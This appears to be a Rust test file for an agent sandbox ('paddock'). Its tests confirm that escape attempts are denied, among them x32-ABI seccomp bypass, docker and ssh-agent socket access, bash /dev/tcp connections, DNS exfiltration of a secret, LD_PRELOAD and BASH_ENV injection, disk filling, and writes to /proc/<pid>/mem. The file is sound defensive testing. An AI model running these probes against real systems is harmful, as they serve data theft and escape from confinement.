    assert_eq!(field(&out, "control"), "ok");
}

#[test]
fn keyring_syscalls() {
    let w = World::new();
    // The add runs in a fresh anonymous session keyring (`keyctl session -`),
    // so even with the protection removed it leaves nothing on the host.
    let out = w.sh("keyctl show @s >/dev/null 2>&1 && echo show=yes || echo show=no; \
                   keyctl session - /bin/sh -c 'keyctl add user paddock-test x @s >/dev/null 2>&1 && echo add=yes || echo add=no' 2>/dev/null \
                   || echo add=no; echo control=$(id -u)");
    assert_eq!(field(&out, "show"), "no");
    assert_eq!(field(&out, "add"), "no");
    assert_eq!(field(&out, "control"), "1000");
}

#[test]
fn io_uring_setup() {
    let w = World::new();
    let out = w.py("import ctypes\n\
libc=ctypes.CDLL(None, use_errno=True)\n\
params=ctypes.create_string_buffer(120)\n\
r=libc.syscall(425, 8, params)  # io_uring_setup\n\
print('attack=' + ('created' if r>=0 else 'denied')); print('errno=%d' % ctypes.get_errno())\n\
print('control=' + ('ok' if libc.syscall(39) > 0 else 'no'))  # getpid\n");
    assert_eq!(field(&out, "attack"), "denied");
    assert_eq!(field(&out, "errno"), "1");
    assert_eq!(field(&out, "control"), "ok");
}

#[test]
#[cfg(target_arch = "x86_64")] // the x32 ABI exists only there
fn x32_abi_syscall_bypass() {
    // socket(AF_UNIX) through the x32 syscall table (number | 0x4000_0000)
    // would not match the filter's rule for the native `socket` number.
    //
    // This kernel (like most distribution kernels) has no x32 ABI, so running
    // that syscall in the sandbox fails with ENOSYS whether or not the filter
    // refuses it: it proves nothing. What does: the exact programs the
    // backend hands to bwrap, evaluated on the `seccomp_data` the kernel
    // would build for the call (tests/common/bpf.rs). On a kernel with x32,
    // the real attack runs too.
    use common::bpf::{SeccompData, describe, run_stack};
    let programs = paddock_sandbox::seccomp::bwrap_programs(true).unwrap();
    let programs: Vec<&[seccompiler::sock_filter]> = programs.iter().map(Vec::as_slice).collect();
    let call = |nr: i64, domain: u64| {
        let data = SeccompData {
            nr: nr as i32,
            arch: 0xc000_003e, // AUDIT_ARCH_X86_64: x32 calls carry the x86_64 arch
            instruction_pointer: 0x40_1000,
            args: [domain, 1, 0, 0, 0, 0],
        };
        describe(run_stack(&programs, &data))
    };
    let unix = libc::AF_UNIX as u64;
    assert_eq!(
        call(libc::SYS_socket, unix),
        "EPERM",
        "control: the native rule the x32 path would dodge"
    );
    assert_eq!(
        call(libc::SYS_socket | 0x4000_0000, unix),
        "ENOSYS",
        "x32 socket(AF_UNIX) refused"
    );
    assert_eq!(
        call(libc::SYS_socket, libc::AF_INET as u64),
        "ALLOW",
        "control: AF_INET sockets are fine"
    );

    let w = World::new();
    let probe = "import ctypes\n\
libc=ctypes.CDLL(None, use_errno=True)\n\
r=libc.syscall(0x40000000 | 39)  # x32 getpid\n\
print('x32=' + ('yes' if r > 0 else 'no'))\n";
    let host = Command::new("python3")
        .args(["-c", probe])
        .output()
        .unwrap();
    if field(&host, "x32") == "yes" {
        let out = w.py("import ctypes\n\
libc=ctypes.CDLL(None, use_errno=True)\n\
r=libc.syscall(0x40000000 | 41, 1, 1, 0)\n\
print('attack=' + ('created' if r>=0 else 'denied'))\n\
print('control=' + ('ok' if libc.syscall(41, 2, 1, 0) >= 0 else 'no'))  # AF_INET socket is fine\n");
        assert_eq!(field(&out, "attack"), "denied");
        assert_eq!(field(&out, "control"), "ok");
    }
}

// ---------------------------------------------------------------- sockets

/// Connects to a unix socket; prints `visible=` whether the path exists, then
/// `attack=connected` as soon as the
/// connection stands (then `got=` what the server says, if anything, within
/// 20 s) or `attack=denied`.
fn connect_unix_py(path: &std::path::Path) -> String {
    format!(
        "import os, socket\n\
print('visible=' + ('yes' if os.path.exists('{path}') else 'no'))\n\
try:\n    s=socket.socket(socket.AF_UNIX); s.connect('{path}'); print('attack=connected', flush=True)\n\
\x20   s.settimeout(20)\n\
\x20   try: print('got=' + s.recv(64).decode())\n\
\x20   except OSError: print('got=nothing')\n\
except OSError as e: print('attack=denied')\n",
        path = path.display()
    )
}

fn serve_unix(path: &std::path::Path) -> UnixListener {
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    let listener = UnixListener::bind(path).unwrap();
    listener.set_nonblocking(true).unwrap();
    listener
}

#[test]
fn docker_socket_masked() {
    let w = World::new();
    let sock = w.home.join(".docker/run/docker.sock");
    let _listener = serve_unix(&sock);
    let m = w.manifest().read_only(&w.home).build().unwrap();
    let out = w.py_in(
        &m,
        &format!(
            "{}\nprint('control=' + open('{}/notes.txt').read().strip())",
            connect_unix_py(&sock),
            w.home.display()
        ),
    );
    assert_eq!(
        field(&out, "visible"),
        "no",
        "~/.docker is masked even though HOME is granted"
    );
    assert_eq!(field(&out, "attack"), "denied");
    assert_eq!(field(&out, "control"), "public notes");
    assert!(
        std::os::unix::net::UnixStream::connect(&sock).is_ok(),
        "control: the socket is live on the host"
    );
}

#[test]
fn unix_socket_visible_in_worktree_blocked_by_seccomp() {
    let w = World::new();
    let sock = w.worktree.join("agent.sock");
    let listener = serve_unix(&sock);
    let out = w.py(&connect_unix_py(&sock));
    assert_eq!(
        field(&out, "visible"),
        "yes",
        "control: the socket is in the (granted) worktree"
    );
    assert_eq!(field(&out, "attack"), "denied");
    // Control: granting the socket makes the same connection work.
    listener.set_nonblocking(false).unwrap();
    let server = std::thread::spawn(move || {
        let (mut s, _) = listener.accept().unwrap();
        s.write_all(b"hello").unwrap();
    });
    let granted = w.manifest().unix_socket(&sock).build().unwrap();
    let out = w.py_in(&granted, &connect_unix_py(&sock));
    assert_eq!(field(&out, "attack"), "connected");
    assert_eq!(field(&out, "got"), "hello");
    server.join().unwrap();
}

#[test]
fn ssh_agent_socket_unreachable() {
    let w = World::new();
    let sock = w.home.join(".ssh/agent.sock");
    let _listener = serve_unix(&sock);
    let m = w.manifest().build().unwrap();
    let host_env = vec![
        ("PATH".into(), "/usr/bin:/bin".into()),
        ("SSH_AUTH_SOCK".into(), sock.clone().into()),
    ];
    let out = w.run_with(
        &m,
        &[
            "/usr/bin/python3",
            "-c",
            &format!(
                "import os\nprint('var=' + os.environ.get('SSH_AUTH_SOCK', 'unset'))\n{}",
                connect_unix_py(&sock)
            ),
        ],
        host_env,
    );
    assert_eq!(field(&out, "var"), "unset");
    assert_eq!(field(&out, "visible"), "no", "the real HOME is not mounted");
    assert_eq!(field(&out, "attack"), "denied");
    assert!(
        std::os::unix::net::UnixStream::connect(&sock).is_ok(),
        "control: the agent socket is live on the host"
    );
}

#[test]
fn dbus_abstract_socket_unreachable() {
    // D-Bus and X11 listen on abstract sockets too: reachable from any process
    // in the same network namespace, regardless of the filesystem. A profile
    // granting some unix socket lifts the seccomp AF_UNIX rule, so this runs
    // with one granted: only the network namespace stands.
    let w = World::new();
    let granted = w.worktree.join("granted.sock");
    let _granted = serve_unix(&granted);
    let name = format!("paddock-test-dbus-{}", std::process::id());
    let py_listen = format!(
        "import socket,time\ns=socket.socket(socket.AF_UNIX); s.bind('\\0{name}'); s.listen(); print('up', flush=True); time.sleep(60)"
    );
    let mut host = Command::new("python3")
        .args(["-c", &py_listen])
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut line = [0u8; 3];
    host.stdout.as_mut().unwrap().read_exact(&mut line).unwrap();
    let connect = format!(
        "import socket\ntry:\n    s=socket.socket(socket.AF_UNIX); s.connect('\\0{name}'); print('attack=connected')\nexcept OSError: print('attack=denied')\n"
    );
    let control = Command::new("python3")
        .args(["-c", &connect])
        .output()
        .unwrap();
    let out = w.py_in(
        &w.manifest().unix_socket(&granted).build().unwrap(),
        &connect,
    );
    host.kill().unwrap();
    host.wait().unwrap();
    assert_eq!(
        field(&control, "attack"),
        "connected",
        "control: reachable from the host"
    );
    assert_eq!(field(&out, "attack"), "denied");
}

// ---------------------------------------------------------------- network

fn host_tcp_listener() -> (TcpListener, u16) {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    (l, port)
}

/// An HTTP service on the host's loopback answering `host-service` to every
/// request (so a client that reaches it succeeds, not merely connects).
fn host_http_service() -> u16 {
    let (listener, port) = host_tcp_listener();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut s) = stream else { return };
            let mut buf = [0u8; 4096];
            let _ = s.read(&mut buf);
            let _ = s.write_all(
                b"HTTP/1.1 200 OK\r\nContent-Length: 12\r\nConnection: close\r\n\r\nhost-service",
            );
        }
    });
    port
}

/// Control: the host service answers from the host.
#[track_caller]
fn assert_host_service_answers(port: u16) {
    let mut s = TcpStream::connect(("127.0.0.1", port)).unwrap();
    s.write_all(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n").unwrap();
    let mut answer = String::new();
    s.read_to_string(&mut answer).unwrap();
    assert!(
        answer.ends_with("host-service"),
        "control: the host service answers: {answer}"
    );
}

#[test]
fn direct_ip_egress_ignoring_proxy() {
    let w = World::new();
    let port = host_http_service();
    let out = w.sh(&format!(
        "curl -sS --noproxy '*' --max-time 20 http://127.0.0.1:{port}/ && echo attack=connected || echo attack=denied; \
         curl -sS --noproxy '*' --max-time 5 http://192.0.2.1/ 2>/dev/null && echo lan=connected || echo lan=denied; \
         echo control=$(cat README.md)"
    ));
    assert_eq!(field(&out, "attack"), "denied");
    assert_eq!(field(&out, "lan"), "denied");
    assert_eq!(field(&out, "control"), "worktree readme");
    assert_host_service_answers(port);
}

#[test]
fn dev_tcp_bash_redirection() {
    let w = World::new();
    let (listener, port) = host_tcp_listener();
    let out = w.run_with(&w.manifest().build().unwrap(), &["/bin/bash", "-c", &format!(
        "(exec 3<>/dev/tcp/127.0.0.1/{port}) 2>/dev/null && echo attack=connected || echo attack=denied; \
         nc_ok=$( (exec 3<>/dev/tcp/127.0.0.1/1) 2>&1 ); echo control=$([ -n \"$nc_ok\" ] && echo bash-tried)")],
        vec![("PATH".into(), "/usr/bin:/bin".into())]);
    assert_eq!(field(&out, "attack"), "denied");
    assert_eq!(
        field(&out, "control"),
        "bash-tried",
        "bash supports /dev/tcp and reported the failure"
    );
    assert!(TcpStream::connect(("127.0.0.1", port)).is_ok());
    drop(listener);
}

#[test]
fn dns_exfiltration() {
    let w = World::new();
    let resolver = UdpSocket::bind("127.0.0.1:0").unwrap();
    resolver
        .set_read_timeout(Some(Duration::from_millis(500)))
        .unwrap();
    let port = resolver.local_addr().unwrap().port();
    let out = w.py(&format!("import socket\n\
try:\n    socket.getaddrinfo('{SECRET}.exfil.invalid', 80); print('lookup=resolved')\n\
except OSError: print('lookup=failed')\n\
s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
for dst in [('192.0.2.53',53), ('127.0.0.1',{port})]:\n    try: s.sendto(b'{SECRET}', dst)\n    except OSError: pass\n\
print('control=sent')\n"));
    assert_eq!(field(&out, "lookup"), "failed");
    assert_eq!(field(&out, "control"), "sent");
    let mut buf = [0u8; 64];
    assert!(
        resolver.recv_from(&mut buf).is_err(),
        "nothing reached the host's loopback resolver"
    );
    // Control: the host resolver socket does receive when sent to from the host.
    UdpSocket::bind("127.0.0.1:0")
        .unwrap()
        .send_to(b"ping", ("127.0.0.1", port))
        .unwrap();
    assert!(resolver.recv_from(&mut buf).is_ok());
}

#[test]
fn raw_icmp_and_udp() {
    let w = World::new();
    let out = w.py("import socket\n\
try:\n    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); print('raw=created')\n\
except OSError: print('raw=denied')\n\
try:\n    socket.socket(socket.AF_PACKET, socket.SOCK_RAW); print('packet=created')\n\
except OSError: print('packet=denied')\n\
s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
try:\n    s.sendto(b'x', ('192.0.2.9', 9)); print('udp=sent')\n\
except OSError: print('udp=unreachable')\n\
l=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); l.bind(('127.0.0.1',0)); s.sendto(b'y', l.getsockname())\n\
print('control=' + l.recv(8).decode())\n");
    assert_eq!(field(&out, "raw"), "denied");
    assert_eq!(field(&out, "packet"), "denied");
    assert_eq!(field(&out, "udp"), "unreachable");
    assert_eq!(
        field(&out, "control"),
        "y",
        "loopback inside the sandbox works"
    );
}

#[test]
fn bind_port_to_reach_host_services() {
    let w = World::new();
    let (listener, port) = host_tcp_listener();
    let out = w.py(&format!(
        "import socket\n\
c=socket.socket()\n\
try:\n    c.connect(('127.0.0.1',{port})); print('attack=connected')\n\
except OSError: print('attack=refused')\n\
l=socket.socket(); l.bind(('127.0.0.1',{port})); l.listen(); print('bound=own')\n\
c2=socket.create_connection(('127.0.0.1',{port})); a,_=l.accept(); print('control=loopback-own')\n"
    ));
    assert_eq!(field(&out, "attack"), "refused");
    assert_eq!(
        field(&out, "bound"),
        "own",
        "the same port is free inside: a separate loopback"
    );
    assert_eq!(field(&out, "control"), "loopback-own");
    assert!(TcpStream::connect(("127.0.0.1", port)).is_ok());
    drop(listener);
}

// ---------------------------------------------------------------- injection

#[test]
fn ld_preload_injection_from_host_env() {
    let w = World::new();
    let m = w.manifest().allow_env("*").build().unwrap(); // even a permissive allowlist
    let host_env = vec![
        ("PATH".into(), "/usr/bin:/bin".into()),
        ("LD_PRELOAD".into(), "/nonexistent/evil.so".into()),
        ("LD_LIBRARY_PATH".into(), "/nonexistent".into()),
    ];
    let out = w.run_with(&m, &["/bin/sh", "-c",
        "echo preload=${LD_PRELOAD:-unset}; echo libpath=${LD_LIBRARY_PATH:-unset}; LD_PRELOAD=/nonexistent/evil.so /bin/true"], host_env);
    assert_eq!(field(&out, "preload"), "unset");
    assert_eq!(field(&out, "libpath"), "unset");
    // Control: the loader does complain when LD_PRELOAD is set (inside, by hand).
    assert_eq!(
        stderr(&out).matches("cannot be preloaded").count(),
        1,
        "stderr: {}",
        stderr(&out)
    );
    assert!(
        Manifest::builder()
            .set_env("LD_PRELOAD", "/x.so")
            .build()
            .is_err(),
        "setting it explicitly is refused"
    );
}

#[test]
fn interpreter_startup_injection_from_host_env() {
    let w = World::new();
    let evil = w.worktree.join("evil.sh");
    fs::write(&evil, "echo INJECTED\n").unwrap();
    let m = w.manifest().allow_env("*").build().unwrap();
    let host_env = vec![
        ("PATH".into(), "/usr/bin:/bin".into()),
        ("BASH_ENV".into(), evil.clone().into()),
        ("ENV".into(), evil.clone().into()),
        ("NODE_OPTIONS".into(), "--require /evil.js".into()),
        ("PYTHONSTARTUP".into(), evil.clone().into()),
        ("PERL5OPT".into(), "-Mevil".into()),
        ("GIT_CONFIG_COUNT".into(), "1".into()),
    ];
    let out = w.run_with(&m, &["/bin/bash", "-c",
        "env | grep -cE '^(BASH_ENV|ENV|NODE_OPTIONS|PYTHONSTARTUP|PERL5OPT|GIT_CONFIG_COUNT)=' | sed 's/^/leaked=/'; \
         BASH_ENV=./evil.sh bash -c true | sed 's/^/control=/'"], host_env);
    assert_eq!(field(&out, "leaked"), "0");
    assert_eq!(
        stdout(&out).matches("INJECTED").count(),
        1,
        "only the explicit control run sourced it"
    );
    assert_eq!(field(&out, "control"), "INJECTED");
}

// ---------------------------------------------------------------- quotas

#[test]
fn fill_tmp_beyond_quota() {
    let w = World::new();
    let m = w.manifest().tmp_size_mib(8).build().unwrap();
    let out = w.sh_in(&m, "dd if=/dev/zero of=/tmp/fill bs=1M count=64 2>/dev/null && echo attack=filled || echo attack=stopped; \
                          echo size=$(( $(stat -c %s /tmp/fill) / 1048576 )); rm /tmp/fill; \
                          dd if=/dev/zero of=/tmp/small bs=1M count=1 2>/dev/null && echo control=ok");
    assert_eq!(field(&out, "attack"), "stopped");
    assert!(field(&out, "size").parse::<u64>().unwrap() <= 8);
    assert_eq!(field(&out, "control"), "ok");
}

#[test]
fn fill_home_beyond_quota() {
    let w = World::new();
    let out = w.sh("dd if=/dev/zero of=$HOME/fill bs=1M count=400 2>/dev/null && echo attack=filled || echo attack=stopped; \
                   echo size=$(( $(stat -c %s $HOME/fill) / 1048576 )); rm $HOME/fill; echo x > $HOME/ok && echo control=ok");
    assert_eq!(field(&out, "attack"), "stopped");
    assert!(field(&out, "size").parse::<u64>().unwrap() <= 256);
    assert_eq!(field(&out, "control"), "ok");
}

#[test]
fn host_tmp_and_system_state_invisible() {
    let w = World::new();
    let host_tmp = tempfile::NamedTempFile::new().unwrap();
    let out = w.sh(&format!(
        "test -e '{}' && echo tmp=visible || echo tmp=hidden; test -e /sys/kernel && echo sys=visible || echo sys=hidden; \
         test -e /run/user && echo run=visible || echo run=hidden; test -e /var && echo var=visible || echo var=hidden; \
         test -r /etc/shadow && [ -s /etc/shadow ] && echo shadow=readable || echo shadow=empty; echo control=$(hostname)",
        host_tmp.path().display()
    ));
    assert_eq!(field(&out, "tmp"), "hidden");
    assert_eq!(field(&out, "sys"), "hidden");
    assert_eq!(field(&out, "run"), "hidden");
    assert_eq!(field(&out, "var"), "hidden");
    assert_eq!(field(&out, "shadow"), "empty");
    assert_eq!(field(&out, "control"), "paddock");
}

// ---------------------------------------------------------------- proxy-only

struct FakeProxy {
    socket: std::path::PathBuf,
    seen: std::sync::mpsc::Receiver<String>,
}

/// A unix-socket HTTP server standing in for the egress proxy.
fn fake_proxy(dir: &std::path::Path) -> FakeProxy {
    let socket = dir.join("egress.sock");
    let listener = UnixListener::bind(&socket).unwrap();
    let (tx, seen) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut s) = stream else { return };
            let mut buf = vec![0u8; 4096];
            let n = s.read(&mut buf).unwrap_or(0);
            let _ = tx.send(String::from_utf8_lossy(&buf[..n]).into_owned());
            let _ = s.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 16\r\nConnection: close\r\n\r\nhello-from-proxy");
        }
    });
    FakeProxy { socket, seen }
}

#[test]
fn proxy_only_reaches_the_proxy_through_the_bridge() {
    let w = World::new();
    let proxy = fake_proxy(&w.root);
    let m = w
        .manifest()
        .network(Network::ProxyOnly {
            socket: proxy.socket.clone(),
            port: 3128,
        })
        .build()
        .unwrap();
    let out = w.sh_in(
        &m,
        "echo proxy=$HTTPS_PROXY; echo body=$(curl -sS --max-time 20 http://example.invalid/path)",
    );
    assert_eq!(field(&out, "proxy"), "http://127.0.0.1:3128");
    assert_eq!(
        field(&out, "body"),
        "hello-from-proxy",
        "stderr: {}",
        stderr(&out)
    );
    let request = proxy.seen.recv_timeout(Duration::from_secs(20)).unwrap();
    assert!(
        request.starts_with("GET http://example.invalid/path"),
        "{request}"
    );
}

#[test]
fn proxy_only_agent_cannot_open_the_proxy_socket_directly() {
    // The bridge may use AF_UNIX; the agent may not (it would bypass nothing
    // today, but the filter must hold for the agent under the init).
    let w = World::new();
    let proxy = fake_proxy(&w.root);
    let m = w
        .manifest()
        .network(Network::ProxyOnly {
            socket: proxy.socket.clone(),
            port: 3128,
        })
        .build()
        .unwrap();
    let out = w.py_in(&m, &format!("{}\nimport urllib.request\nprint('control=' + urllib.request.urlopen('http://example.invalid/').read().decode())",
        connect_unix_py(std::path::Path::new(paddock_sandbox::SANDBOX_PROXY_SOCKET))));
    assert_eq!(field(&out, "attack"), "denied");
    assert_eq!(
        field(&out, "control"),
        "hello-from-proxy",
        "stderr: {}",
        stderr(&out)
    );
}

#[test]
fn proxy_only_direct_egress_still_blocked() {
    let w = World::new();
    let proxy = fake_proxy(&w.root);
    let port = host_http_service();
    let m = w
        .manifest()
        .network(Network::ProxyOnly {
            socket: proxy.socket.clone(),
            // A port free on the host too: with the network namespace
            // removed (mutation check) the bridge still starts, and the
            // attack, not a port clash, decides the outcome.
            port: free_host_port(),
        })
        .build()
        .unwrap();
    let out = w.sh_in(&m, &format!(
        "curl -sS --noproxy '*' --max-time 20 http://127.0.0.1:{port}/ && echo attack=connected || echo attack=denied; \
         echo control=$(curl -sS --max-time 20 http://example.invalid/)"
    ));
    assert_eq!(field(&out, "attack"), "denied");
    assert_eq!(field(&out, "control"), "hello-from-proxy");
    assert_host_service_answers(port);
}

fn free_host_port() -> u16 {
    host_tcp_listener().1
}

#[test]
fn proxy_only_init_memory_not_writable_by_agent() {
    // The init runs the unfiltered bridge: the agent (same uid) must not be
    // able to write its memory through /proc and take it over.
    let w = World::new();
    let proxy = fake_proxy(&w.root);
    let m = w
        .manifest()
        .network(Network::ProxyOnly {
            socket: proxy.socket.clone(),
            port: 3128,
        })
        .build()
        .unwrap();
    let out = w.sh_in(&m, "init=$(pgrep -x init | head -1); echo found=$([ -n \"$init\" ] && echo yes); \
                          (exec 3<>/proc/$init/mem) 2>/dev/null && echo attack=opened || echo attack=denied; \
                          (exec 3<>/proc/self/mem) 2>/dev/null && echo control=ok");
    assert_eq!(field(&out, "found"), "yes");
    assert_eq!(field(&out, "attack"), "denied");
    assert_eq!(field(&out, "control"), "ok");
}
